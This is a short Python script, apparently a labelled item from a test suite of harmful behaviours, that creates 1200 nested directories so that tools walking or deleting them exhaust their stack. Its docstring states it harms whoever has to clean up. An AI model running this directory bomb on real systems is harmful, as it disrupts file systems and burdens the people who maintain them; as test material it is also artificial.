"""Nests folders so deeply that whoever walks them, or removes them, runs out of stack.

succeeds: harmed
stopped by: process
control: none, it harms only whoever has to clean up
"""

import os

for _ in range(1200):
    os.mkdir("x")
    os.chdir("x")
